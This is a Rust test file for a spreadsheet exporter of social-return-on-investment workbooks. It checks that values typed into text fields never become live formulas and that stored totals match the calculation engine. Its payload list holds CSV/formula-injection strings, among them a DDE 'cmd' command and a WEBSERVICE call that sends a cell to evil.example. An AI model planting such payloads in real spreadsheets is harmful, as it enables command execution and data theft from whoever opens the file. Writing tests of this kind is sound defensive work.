//! What a person typed is never a formula, and the formulas carry the figures they come to.
use std::{collections::BTreeSet, io::Cursor};

use calamine::{Data, Reader as _, Xlsx};
use serde_json::{Value, json};
use workbook::Language;

use crate::{maps::demonstration, round_trip::small};

pub(crate) const BEGINNINGS: [&str; 10] =
    ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝"];
pub(crate) const ENDS: [&str; 5] = [
    "1+1",
    "HYPERLINK(\"http://evil.example\",\"click\")",
    "cmd|' /C calc'!A0",
    "SUM(A1:A9)*1E3",
    "WEBSERVICE(\"http://evil.example/?\"&A1)",
];

pub(crate) fn formulas(bytes: &[u8]) -> BTreeSet<(String, (usize, usize), String)> {
    let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
    let mut found = BTreeSet::new();
    for sheet in workbook.sheet_names() {
        let range = workbook.worksheet_formula(&sheet).unwrap();
        // Cells are counted from the first one that holds a formula.
        let (top, left) = range.start().unwrap_or_default();
        let offset = |start: u32, cell: usize| usize::try_from(start).unwrap() + cell;
        for (row, column, formula) in range.used_cells() {
            if !formula.is_empty() {
                let cell = (offset(top, row), offset(left, column));
                found.insert((sheet.clone(), cell, formula.clone()));
            }
        }
    }
    found
}

#[test]
fn fifty_payloads_in_every_text_field_become_no_formula() {
    let harmless = formulas(&small().export(Language::En));
    assert!(
        harmless
            .iter()
            .all(|(sheet, ..)| ["Calculation", "Summary"].contains(&sheet.as_str()))
    );
    let mut payloads = 0;
    for beginning in BEGINNINGS {
        for end in ENDS {
            let payload = format!("{beginning}{end}");
            let mut example = small();
            example.name.clone_from(&payload);
            let texts = [
                "stakeholder",
                "name",
                "indicator",
                "proxy_unit",
                "baseline",
                "local_basis",
            ];
            for key in texts {
                example.section["outcomes"][0][key] = json!(payload);
            }
            example.section["outcomes"][0]["reasons"] = json!({"deadweight": payload});
            example.section["stakeholders"][0]["name"] = json!(payload);
            example.section["exclusions"] =
                json!([{"kind": "outcome", "name": payload, "reason": payload}]);
            example.question["inputs"][0]["name"] = json!(payload);
            let bytes = example.export(Language::En);
            assert_eq!(formulas(&bytes), harmless, "{payload:?}");
            let unchanged = workbook::import(&bytes, &example.section);
            assert_eq!(unchanged.content, Some(example.section));
            payloads += 1;
        }
    }
    assert_eq!(payloads, 50);
}

fn cell(range: &calamine::Range<Data>, row: u32, column: u32) -> &Data {
    range.get_value((row, column)).unwrap()
}

fn number(cell: &Data) -> String {
    match cell {
        Data::Float(number) => money::fixed_text(format!("{number:.9}").parse().unwrap(), 2),
        other => panic!("{other:?}"),
    }
}

#[test]
fn the_stored_results_are_the_engines_figures() {
    for example in demonstration() {
        let evaluation = sroi::evaluate(example.request()).unwrap().to_json();
        let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(example.export(Language::En))).unwrap();
        let summary = workbook.worksheet_range("Summary").unwrap();
        for (row, key) in [
            (4, "total_present_value"),
            (5, "investment"),
            (6, "net_present_value"),
        ] {
            let expected = evaluation[key].as_str().unwrap();
            assert_eq!(
                number(cell(&summary, row, 1)),
                expected,
                "{} {key}",
                example.name
            );
            assert_eq!(
                number(cell(&summary, row, 3)),
                expected,
                "{} {key}",
                example.name
            );
        }
        let calculation = workbook.worksheet_range("Calculation").unwrap();
        let years: Vec<&Value> = evaluation["years"].as_array().unwrap().iter().collect();
        assert!(!years.is_empty());
        let total = number(cell(&calculation, 10, 11));
        assert_eq!(total, evaluation["total_present_value"].as_str().unwrap());
    }
}
